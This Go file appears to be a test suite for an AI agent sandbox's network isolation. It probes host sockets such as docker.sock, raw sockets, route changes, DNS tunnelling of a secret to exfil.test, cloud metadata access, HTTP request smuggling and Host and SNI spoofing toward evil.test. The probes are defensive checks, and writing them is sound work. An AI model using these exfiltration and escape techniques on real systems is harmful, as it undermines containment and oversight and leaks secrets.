package hostile

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// dial succeeds when a connection is made and, with say, answered.
func dial(network, addr, say string) func() error {
	return func() error {
		patient := 30 * time.Second
		if host, _, _ := net.SplitHostPort(addr); net.ParseIP(host).IsMulticast() || host == "255.255.255.255" {
			patient = silence
		}
		c, err := net.DialTimeout(network, addr, patient)
		if err != nil {
			return err
		}
		defer c.Close()
		if say == "" {
			return nil
		}
		c.SetDeadline(time.Now().Add(30 * time.Second))
		if _, err := io.WriteString(c, say); err != nil {
			return err
		}
		var one [1]byte
		_, err = c.Read(one[:])
		return err
	}
}

const plainGet = "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"

// socketProbes try the Unix sockets of the host. args: a socket in the
// workspace, one in a mount, an abstract name, a host path.
func socketProbes(args []string) []probe {
	own := "@inside-" + fmt.Sprint(os.Getpid())
	ps := []probe{
		{"allowed-own-abstract-socket", func() error {
			l, err := net.Listen("unix", own)
			if err != nil {
				return err
			}
			defer l.Close()
			return dial("unix", own, "")()
		}},
		{"allowed-own-path-socket", func() error {
			l, err := net.Listen("unix", "/tmp/own.sock")
			if err != nil {
				return err
			}
			defer l.Close()
			return dial("unix", "/tmp/own.sock", "")()
		}},
		{"allowed-socketpair", func() error {
			_, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0)
			return err
		}},
		{"allowed-own-loopback", func() error {
			l, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				return err
			}
			defer l.Close()
			return dial("tcp", l.Addr().String(), "")()
		}},
		{"workspace-socket", dial("unix", args[0], "")},
		{"mounted-socket", dial("unix", args[1], "")},
		{"abstract-socket", dial("unix", "@"+args[2], "")},
		{"abstract-datagram", dial("unixgram", "@"+args[2]+"-dgram", "")},
		{"host-path-socket", dial("unix", args[3], "")},
		{"descriptor-by-socket", func() error {
			// A peer on the host would take or give descriptors.
			c, err := net.Dial("unix", "@"+args[2])
			if err != nil {
				return err
			}
			_, _, err = c.(*net.UnixConn).WriteMsgUnix([]byte("x"), unix.UnixRights(0), nil)
			return err
		}},
	}
	for _, p := range []string{"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/journal/socket", "/run/user/0/bus", "/run/user/1000/bus", "/run/podman/podman.sock", "/tmp/.X11-unix/X0"} {
		ps = append(ps, probe{"socket" + p, dial("unix", p, "")}, probe{"datagram" + p, dial("unixgram", p, "")})
	}
	for name, f := range map[string]func() (int, error){
		"raw-ip":     func() (int, error) { return unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW) },
		"raw-icmp":   func() (int, error) { return unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP) },
		"raw-tcp":    func() (int, error) { return unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_TCP) },
		"raw-ip6":    func() (int, error) { return unix.Socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_RAW) },
		"packet":     func() (int, error) { return unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0x300) },
		"packet-udp": func() (int, error) { return unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, 0x300) },
		"vsock":      func() (int, error) { return unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0) },
		"alg":        func() (int, error) { return unix.Socket(unix.AF_ALG, unix.SOCK_SEQPACKET, 0) },
		"bluetooth":  func() (int, error) { return unix.Socket(unix.AF_BLUETOOTH, unix.SOCK_RAW, 1) },
		"xdp":        func() (int, error) { return unix.Socket(unix.AF_XDP, unix.SOCK_RAW, 0) },
		"tipc":       func() (int, error) { return unix.Socket(unix.AF_TIPC, unix.SOCK_SEQPACKET, 0) },
		"kcm":        func() (int, error) { return unix.Socket(unix.AF_KCM, unix.SOCK_DGRAM, 0) },
		"can":        func() (int, error) { return unix.Socket(unix.AF_CAN, unix.SOCK_RAW, 1) },
		"audit":      func() (int, error) { return unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT) },
		"netfilter":  func() (int, error) { return unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER) },
	} {
		ps = append(ps, probe{"make-" + name + "-socket", func() error {
			fd, err := f()
			if err == nil {
				unix.Close(fd)
			}
			return err
		}})
	}
	return ps
}

// netlinkProbes change the network. Seeing it is allowed.
func netlinkProbes([]string) []probe {
	ip := func(args ...string) func() error {
		return func() error {
			out, err := exec.Command("/sbin/ip", args...).CombinedOutput()
			if err != nil {
				return fmt.Errorf("%w %s", err, out)
			}
			return nil
		}
	}
	ip2 := func(args ...string) func() error {
		return func() error {
			out, err := exec.Command("/usr/bin/unshare", append([]string{"-Ur", "/sbin/ip"}, args...)...).CombinedOutput()
			if err != nil {
				return fmt.Errorf("%w %s", err, out)
			}
			return nil
		}
	}
	ifreq := func(req uint) func() error {
		return func() error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			r, err := unix.NewIfreq("eth0")
			if err != nil {
				return err
			}
			if err := r.SetInet4Addr([]byte{10, 9, 8, 7}); err != nil {
				return err
			}
			return unix.IoctlIfreq(fd, req, r)
		}
	}
	return []probe{
		{"allowed-see-interfaces", func() error {
			ifs, err := net.Interfaces()
			if err == nil && len(ifs) != 2 {
				err = fmt.Errorf("%d interfaces", len(ifs))
			}
			return err
		}},
		{"allowed-namespace", func() error { return exec.Command("/usr/bin/unshare", "-Ur", "/bin/true").Run() }},
		{"namespace-root-add-address", ip2("addr", "add", "10.9.8.7/24", "dev", "eth0")},
		{"namespace-root-add-route", ip2("route", "add", "10.0.0.0/8", "dev", "eth0")},
		{"namespace-root-link-down", ip2("link", "set", "eth0", "down")},
		{"namespace-root-raw-socket", func() error { return exec.Command("/usr/bin/unshare", "-Ur", guestPath, "raw-socket").Run() }},
		{"namespace-root-other-network", func() error {
			return exec.Command("/usr/bin/unshare", "-Urn", "/usr/bin/nsenter", "-t", "1", "-n", "/bin/true").Run()
		}},
		{"add-address", ip("addr", "add", "10.9.8.7/24", "dev", "eth0")},
		{"add-address6", ip("-6", "addr", "add", "fd00::7/64", "dev", "eth0")},
		{"add-route", ip("route", "add", "10.0.0.0/8", "dev", "eth0")},
		{"delete-route", ip("route", "del", "default")},
		{"link-down", ip("link", "set", "eth0", "down")},
		{"add-veth", ip("link", "add", "v0", "type", "veth")},
		{"ioctl-address", ifreq(unix.SIOCSIFADDR)},
		{"ioctl-flags", ifreq(unix.SIOCSIFFLAGS)},
		{"ioctl-mtu", ifreq(unix.SIOCSIFMTU)},
		{"tun-device", func() error {
			fd, err := unix.Open("/dev/net/tun", unix.O_RDWR, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			r, err := unix.NewIfreq("tun0")
			if err != nil {
				return err
			}
			r.SetUint16(unix.IFF_TUN | unix.IFF_NO_PI)
			return unix.IoctlIfreq(fd, unix.TUNSETIFF, r)
		}},
	}
}

// reachProbes try to connect to a canary of the host by all its addresses.
// args: network/address…
func reachProbes(args []string) []probe {
	var ps []probe
	for _, a := range args {
		name, target, _ := strings.Cut(a, "=")
		network, addr, _ := strings.Cut(target, "/")
		say := plainGet
		if strings.HasPrefix(name, "allowed-") {
			say = strings.Replace(plainGet, "Host: x", "Host: "+addr, 1)
		}
		ps = append(ps, probe{name, dial(network, addr, say)})
	}
	return ps
}

// query sends a DNS question to a server and succeeds with an address.
func query(network, server, name string, qtype uint16) error {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), qtype)
	c := &dns.Client{Net: network, Timeout: 20 * time.Second}
	r, _, err := c.Exchange(m, server)
	if err != nil {
		return err
	}
	if r.Rcode != dns.RcodeSuccess || len(r.Answer) == 0 {
		return fmt.Errorf("%s with %d answers", dns.RcodeToString[r.Rcode], len(r.Answer))
	}
	return nil
}

// nameProbes carry a secret out in questions. args: secret, allowed host:port.
func nameProbes(args []string) []probe {
	secret, allowed := args[0], args[1]
	host, _, _ := net.SplitHostPort(allowed)
	ps := []probe{
		{"allowed-name", func() error { return query("udp", "198.18.0.1:53", host, dns.TypeA) }},
		{"allowed-name-tcp", func() error { return query("tcp", "198.18.0.1:53", host, dns.TypeA) }},
		{"allowed-name-by-libc", func() error { return exec.Command("/usr/bin/getent", "ahostsv4", host).Run() }},
		{"system-resolver", func() error {
			_, err := net.DefaultResolver.LookupHost(context.Background(), secret+".exfil.test")
			return err
		}},
		{"libc-resolver", func() error { return exec.Command("/usr/bin/getent", "hosts", secret+".libc.exfil.test").Run() }},
		{"below-allowed", func() error { return query("udp", "198.18.0.1:53", secret+"."+host, dns.TypeA) }},
		{"many-labels", func() error {
			return query("udp", "198.18.0.1:53", strings.Repeat(secret+".", 6)+"exfil.test", dns.TypeA)
		}},
	}
	for _, server := range []string{"198.18.0.1:53", "8.8.8.8:53", "1.1.1.1:53", "127.0.0.11:53", "198.18.99.99:53", "[2001:4860:4860::8888]:53", "[fd63:6172:626f:7900::1]:53"} {
		for _, network := range []string{"udp", "tcp"} {
			ps = append(ps, probe{"ask-" + network + "-" + server, func() error { return query(network, server, secret+".exfil.test", dns.TypeA) }})
		}
	}
	for name, t := range map[string]uint16{"txt": dns.TypeTXT, "null": dns.TypeNULL, "mx": dns.TypeMX, "srv": dns.TypeSRV, "cname": dns.TypeCNAME, "https": dns.TypeHTTPS, "any": dns.TypeANY, "axfr": dns.TypeAXFR, "ptr": dns.TypePTR} {
		ps = append(ps, probe{"type-" + name, func() error { return query("udp", "198.18.0.1:53", secret+".exfil.test", t) }})
	}
	ps = append(ps,
		probe{"reverse-lookup", func() error { return query("udp", "198.18.0.1:53", "8.8.8.8.in-addr.arpa", dns.TypePTR) }},
		probe{"dns-over-tls", dial("tcp", "1.1.1.1:853", "x")},
		probe{"dns-over-tls-6", dial("tcp", "[2606:4700:4700::1111]:853", "x")},
		probe{"dns-over-https", func() error {
			_, err := http.Get("https://1.1.1.1/dns-query?name=" + secret + ".exfil.test")
			return err
		}},
		probe{"dns-over-https-name", func() error {
			_, err := http.Get("https://dns.google/resolve?name=" + secret + ".exfil.test")
			return err
		}},
		probe{"multicast-dns", func() error { return echoWithin(silence, "udp", "224.0.0.251:5353", []byte(secret)) }},
		probe{"llmnr", func() error { return echoWithin(silence, "udp", "224.0.0.252:5355", []byte(secret)) }},
	)
	return ps
}

// echo succeeds when a datagram was answered.
func echo(network, addr string, b []byte) error { return echoWithin(20*time.Second, network, addr, b) }

// silence is how long a probe waits for an answer that must not come where no
// refusal can come either: to multicast and broadcast nothing is ever said
// (RFC 1122 section 3.2.2).
const silence = 2 * time.Second

func echoWithin(d time.Duration, network, addr string, b []byte) error {
	c, err := net.DialTimeout(network, addr, 20*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := c.Write(b); err != nil {
		return err
	}
	c.SetReadDeadline(time.Now().Add(d))
	_, err = c.Read(make([]byte, 1500))
	return err
}

// fast fails the probe set when a refusal had to be waited for: the tools of an
// agent must fall back at once. What did not answer within 20 seconds was not
// refused but dropped.
func fast(f func() error) func() error {
	return func() error {
		err := f()
		var ne net.Error
		if errors.As(err, &ne) && ne.Timeout() {
			fmt.Println("not-refused\tdone")
		}
		return err
	}
}

// packetProbes send what is not TCP. args: allowed host:port, host addresses.
func packetProbes(args []string) []probe {
	host, port, _ := net.SplitHostPort(args[0])
	quic := append([]byte{0xc0, 0, 0, 0, 1, 8}, bytes.Repeat([]byte{7}, 1200)...)
	ps := []probe{
		{"allowed-dns-over-udp", func() error { return query("udp", "198.18.0.1:53", host, dns.TypeA) }},
		{"allowed-tcp", dial("tcp", args[0], strings.Replace(plainGet, "Host: x", "Host: "+args[0], 1))},
		{"allowed-own-udp", func() error {
			pc, err := net.ListenPacket("udp", "127.0.0.1:0")
			if err != nil {
				return err
			}
			defer pc.Close()
			go func() {
				b := make([]byte, 10)
				n, from, err := pc.ReadFrom(b)
				if err == nil {
					pc.WriteTo(b[:n], from)
				}
			}()
			return echo("udp", pc.LocalAddr().String(), []byte("x"))
		}},
		{"quic-to-allowed-name", fast(func() error { return echo("udp", net.JoinHostPort(host, port), quic) })},
		{"quic-to-allowed-name-443", fast(func() error { return echo("udp", net.JoinHostPort(host, "443"), quic) })},
		{"ping-datagram", func() error { return ping("8.8.8.8") }},
		{"ping-datagram-allowed-name", func() error { return ping(host) }},
	}
	for _, a := range append(args[1:], "8.8.8.8:123", "8.8.8.8:443", "1.1.1.1:51820", "[2606:4700::1111]:443", "169.254.169.254:80", "198.18.0.1:9", "10.0.0.1:161") {
		ps = append(ps, probe{"udp-" + a, fast(func() error { return echo("udp", a, []byte("exfil")) })})
	}
	for _, a := range []string{"255.255.255.255:67", "224.0.0.1:9999", "[ff02::1]:9999", "239.255.255.250:1900"} {
		ps = append(ps, probe{"udp-" + a, func() error { return echoWithin(silence, "udp", a, []byte("exfil")) }})
	}
	for name, proto := range map[string]int{"sctp": unix.IPPROTO_SCTP, "dccp": unix.IPPROTO_DCCP, "udplite": unix.IPPROTO_UDPLITE, "mptcp": 262} {
		ps = append(ps, probe{"make-" + name + "-socket", func() error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, proto)
			if err == nil {
				unix.Close(fd)
			}
			return err
		}})
	}
	return ps
}

// ping sends an echo request by a datagram socket, which needs no right.
func ping(host string) error {
	addr, err := net.ResolveIPAddr("ip4", host)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 3})
	b := []byte{8, 0, 0, 0, 0, 0, 0, 1, 'x'}
	sum := uint32(0)
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	sum += uint32(b[8]) << 8
	sum = sum>>16 + sum&0xffff
	binary.BigEndian.PutUint16(b[2:], ^uint16(sum))
	to := &unix.SockaddrInet4{}
	copy(to.Addr[:], addr.IP.To4())
	if err := unix.Sendto(fd, b, 0, to); err != nil {
		return err
	}
	_, _, err = unix.Recvfrom(fd, make([]byte, 200), 0)
	return err
}

// request speaks HTTP by hand and returns the status of each answer.
func request(addr string, raws ...string) ([]int, error) {
	c, err := net.DialTimeout("tcp", addr, 30*time.Second)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(30 * time.Second))
	br := bufio.NewReader(c)
	var codes []int
	for _, raw := range raws {
		if _, err := io.WriteString(c, raw); err != nil {
			return codes, err
		}
		r, err := http.ReadResponse(br, nil)
		if err != nil {
			return codes, err
		}
		io.Copy(io.Discard, r.Body)
		r.Body.Close()
		codes = append(codes, r.StatusCode)
	}
	return codes, nil
}

// accepted succeeds when the last answer was 200.
func accepted(addr string, raws ...string) func() error {
	return func() error {
		codes, err := request(addr, raws...)
		if err != nil {
			return err
		}
		if last := codes[len(codes)-1]; last != 200 {
			return fmt.Errorf("status %d", last)
		}
		return nil
	}
}

// webProbes speak plain HTTP on allowed routes. args: two allowed host:port,
// an allowed one that resolves to private space without leave, one for
// metadata with leave.
func webProbes(args []string) []probe {
	addr, second, private, metadata := args[0], args[1], args[2], args[3]
	get := func(host string) string { return "GET / HTTP/1.1\r\nHost: " + host + "\r\n\r\n" }
	ok := get(addr)
	return []probe{
		{"allowed-get", accepted(addr, ok)},
		{"allowed-keep-alive", accepted(addr, ok, ok, ok)},
		{"allowed-second-route", accepted(second, get(second))},
		{"allowed-curl", func() error { return exec.Command("/usr/bin/curl", "-fsS", "http://"+addr+"/").Run() }},
		{"other-host", accepted(addr, get("evil.test"))},
		{"other-allowed-host", accepted(addr, get(second))},
		{"other-port", accepted(addr, get(strings.Split(addr, ":")[0]+":1"))},
		{"second-request-other-host", accepted(addr, ok, get("evil.test"))},
		{"second-request-other-allowed-host", accepted(addr, ok, get(second))},
		{"absolute-target", accepted(addr, "GET http://evil.test/ HTTP/1.1\r\nHost: "+addr+"\r\n\r\n")},
		{"absolute-target-both", accepted(addr, "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")},
		{"two-hosts", accepted(addr, "GET / HTTP/1.1\r\nHost: "+addr+"\r\nHost: evil.test\r\n\r\n")},
		{"no-host", accepted(addr, "GET / HTTP/1.1\r\n\r\n")},
		{"host-with-user", accepted(addr, get(addr+"@evil.test"))},
		{"host-with-blank", accepted(addr, "GET / HTTP/1.1\r\nHost: "+addr+" evil.test\r\n\r\n")},
		{"folded-host", accepted(addr, "GET / HTTP/1.1\r\nHost: "+addr+"\r\n evil.test\r\n\r\n")},
		{"bare-line-feed", accepted(addr, "GET / HTTP/1.1\nHost: "+addr+"\n\n")},
		{"connect", accepted(addr, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")},
		{"connect-allowed", accepted(addr, "CONNECT "+addr+" HTTP/1.1\r\nHost: "+addr+"\r\n\r\n")},
		{"smuggled-lengths", accepted(addr, "POST / HTTP/1.1\r\nHost: "+addr+"\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")},
		{"two-lengths", accepted(addr, "POST / HTTP/1.1\r\nHost: "+addr+"\r\nContent-Length: 0\r\nContent-Length: 40\r\n\r\n")},
		{"http2-prior-knowledge", accepted(addr, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")},
		{"ssh-on-web-route", func() error {
			c, err := net.DialTimeout("tcp", addr, 30*time.Second)
			if err != nil {
				return err
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(30 * time.Second))
			io.WriteString(c, "SSH-2.0-OpenSSH_9.2\r\n")
			_, err = c.Read(make([]byte, 1))
			return err
		}},
		{"garbage-on-web-route", dial("tcp", addr, "\x00\x01\x02\x03garbage")},
		{"private-behind-a-public-name", accepted(private, get(private))},
		{"metadata-with-private-leave", accepted(metadata, get(metadata))},
		{"ssh-port-of-web-host", dial("tcp", strings.Split(addr, ":")[0]+":22", "SSH-2.0-x\r\n")},
		{"unlisted-port", dial("tcp", strings.Split(addr, ":")[0]+":1", "")},
		{"proxy-on-the-gateway", accepted("198.18.0.1:3128", "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")},
		{"gateway-itself", accepted("198.18.0.1:80", get("198.18.0.1"))},
		{"synthetic-address-of-nothing", accepted("198.18.77.77:80", get(addr))},
	}
}

// tlsProbes speak TLS on an allowed route. args: host:port, another allowed
// host:port.
func tlsProbes(args []string) []probe {
	addr, second := args[0], args[1]
	host, _, _ := net.SplitHostPort(addr)
	host2, _, _ := net.SplitHostPort(second)
	hello := func(addr, name string) func() error {
		return func() error {
			plain, err := net.DialTimeout("tcp", addr, 30*time.Second)
			if err != nil {
				return err
			}
			defer plain.Close()
			plain.SetDeadline(time.Now().Add(30 * time.Second))
			c := tls.Client(plain, &tls.Config{ServerName: name, InsecureSkipVerify: true})
			io.WriteString(c, plainGet)
			b := make([]byte, 12)
			if _, err := io.ReadFull(c, b); err != nil {
				return err
			}
			if string(b) != "HTTP/1.1 200" {
				return fmt.Errorf("answer %q", b)
			}
			return nil
		}
	}
	resolved := func(name string) string {
		a, err := net.LookupHost(name)
		if err != nil {
			return "0.0.0.0"
		}
		return a[0]
	}
	_, port, _ := net.SplitHostPort(addr)
	return []probe{
		{"allowed-handshake", hello(addr, host)},
		{"allowed-name-in-capitals", hello(addr, strings.ToUpper(host))},
		{"other-name", hello(addr, "evil.test")},
		{"other-allowed-name", hello(addr, host2)},
		{"address-of-one-name-of-other", func() error { return hello(net.JoinHostPort(resolved(host), port), host2)() }},
		{"no-name", hello(addr, "")},
		{"below-the-name", hello(addr, "x."+host)},
		{"name-with-suffix", hello(addr, host+".evil.test")},
		{"name-to-unknown-address", hello(net.JoinHostPort("198.18.9.9", port), host)},
		{"name-to-real-address", hello(net.JoinHostPort("127.0.0.1", port), host)},
		{"half-a-hello", func() error {
			c, err := net.DialTimeout("tcp", addr, 30*time.Second)
			if err != nil {
				return err
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(35 * time.Second))
			c.Write([]byte{22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3})
			c.(*net.TCPConn).CloseWrite()
			b := make([]byte, 1)
			if _, err = c.Read(b); err == nil && b[0] == 21 {
				err = errors.New("alert")
			}
			return err
		}},
		{"application-data-first", dial("tcp", addr, "\x17\x03\x03\x00\x05hello")},
	}
}
